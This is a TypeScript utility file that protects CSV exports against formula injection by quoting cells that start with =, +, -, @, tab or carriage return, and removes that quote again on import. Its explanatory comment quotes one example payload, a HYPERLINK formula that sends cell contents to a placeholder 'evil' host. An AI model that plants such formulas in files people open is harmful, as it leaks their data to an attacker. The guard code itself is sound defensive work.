/**
 * CSV injection (OWASP): a spreadsheet runs a cell starting with `=`, `+`, `-`, `@`, tab or carriage return as a
 * formula (`=HYPERLINK("http://evil/?"&A1,"x")`). An export writes such text with a leading `'`, which spreadsheet
 * programs show as text; so that the guard can be undone exactly, a text that already starts with quotes before one
 * of those characters gets one more. An import takes one quote off again: an exported file imports unchanged.
 */
const GUARDED = /^'*[=+\-@\t\r]/;

/** Text as an export writes it. */
export const guardFormula = (text: string): string => (GUARDED.test(text) ? `'${text}` : text);

/** A cell of an imported file as the text it stands for. */
export const unguardFormula = (cell: string): string =>
  cell.startsWith("'") && GUARDED.test(cell) ? cell.slice(1) : cell;
